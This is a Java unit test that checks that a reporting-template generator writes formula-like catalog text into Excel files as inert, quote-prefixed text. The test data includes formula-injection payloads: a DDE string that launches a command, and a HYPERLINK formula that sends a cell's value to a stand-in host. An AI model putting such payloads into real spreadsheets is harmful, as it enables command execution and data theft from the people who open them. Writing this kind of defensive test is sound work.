package vn.giaoban.template;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import vn.giaoban.catalog.Catalog;
import vn.giaoban.catalog.Form;
import vn.giaoban.catalog.Indicator;
import vn.giaoban.catalog.Measure;
import vn.giaoban.catalog.Polarity;
import vn.giaoban.catalog.Rollup;
import vn.giaoban.catalog.Unit;
import vn.giaoban.catalog.UnitKind;
import vn.giaoban.catalog.ValueType;

/** Text from data that a spreadsheet would take for a formula is written as text: shown as typed, never run. */
class FormulaInjectionTest {

    private static final List<String> HOSTILE = List.of("=1+1", "@SUM(A1)", "+84 912 345 678", "-5 đơn",
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")", "=cmd|' /C calc'!A0");

    @TempDir
    Path dir;

    @Test
    void formulaLikeCatalogTextIsWrittenAsQuotePrefixedText() throws IOException {
        Unit unit = new Unit("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")",
                UnitKind.DEPARTMENT, null, null, null, List.of(), List.of());
        List<Indicator> indicators = List.of(
                indicator("=1+1", "=1+1", "đơn"),
                indicator("AT", "@SUM(A1)", "+84 912 345 678"),
                indicator("PLUS", "+84 912 345 678", "-5 đơn"),
                indicator("MINUS", "-5 đơn", "@SUM(A1)"));
        Form form = new Form("=1+1", "=1+1 báo cáo", List.of(unit.code()), Measure.CUMULATIVE, 20,
                indicators.stream().map(Indicator::code).toList(), List.of());
        Catalog catalog = new Catalog(List.of(unit), indicators, List.of(form), List.of(), List.of());

        Path file = new TemplateWriter(catalog).write(form, unit, YearMonth.of(2022, 10), dir);

        assertThat(file.getParent()).isEqualTo(dir);
        assertThat(file).hasFileName("_1_1__cmd____C_calc__A0_2022-10.xlsx");

        try (InputStream in = Files.newInputStream(file); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            XSSFSheet sheet = workbook.getSheetAt(0);
            List<String> quoted = new ArrayList<>();
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as(cell.getAddress().formatAsString()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING && SafeCells.looksLikeFormula(cell.getStringCellValue())) {
                        assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getAddress().formatAsString()).isTrue();
                        quoted.add(cell.getStringCellValue());
                    } else {
                        assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getAddress().formatAsString()).isFalse();
                    }
                }
            }
            // the issuer (a department's name in upper case), the title, four codes, names and units of measure
            assertThat(quoted).contains("=HYPERLINK(\"HTTP://EXAMPLE.INVALID/?\"&A1,\"BẤM VÀO ĐÂY\")", "=1+1 BÁO CÁO",
                    "=1+1", "@SUM(A1)", "+84 912 345 678", "-5 đơn");
            assertThat(quoted).hasSize(1 + 1 + 1 + 4 + 3);
            assertThat(TemplateRoundTripTest.texts(sheet.getRow(10))).containsExactly("=1+1", "=1+1", "đơn");
            assertThat(TemplateRoundTripTest.texts(sheet.getRow(13))).containsExactly("MINUS", "-5 đơn", "@SUM(A1)");
        }
        String sheetXml = entry(file, "xl/worksheets/sheet1.xml");
        assertThat(sheetXml).doesNotContain("<f>").doesNotContain("<f ");
        for (String text : HOSTILE) {
            assertThat(sheetXml).as("strings live in the shared table, not in cells").doesNotContain(">" + text + "<");
        }
        assertThat(entry(file, "xl/sharedStrings.xml")).contains("=1+1", "@SUM(A1)", "+84 912 345 678", "-5 đơn");
        assertThat(entry(file, "xl/styles.xml")).contains("quotePrefix=\"true\"");
    }

    private static Indicator indicator(String code, String name, String unitOfMeasure) {
        return new Indicator(code, name, name, unitOfMeasure, ValueType.NUMBER, Rollup.OWN, Polarity.NEUTRAL, 0, 0, 1,
                List.of());
    }

    private static String entry(Path zip, String name) throws IOException {
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                if (entry.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError(name + " not in " + zip);
    }
}
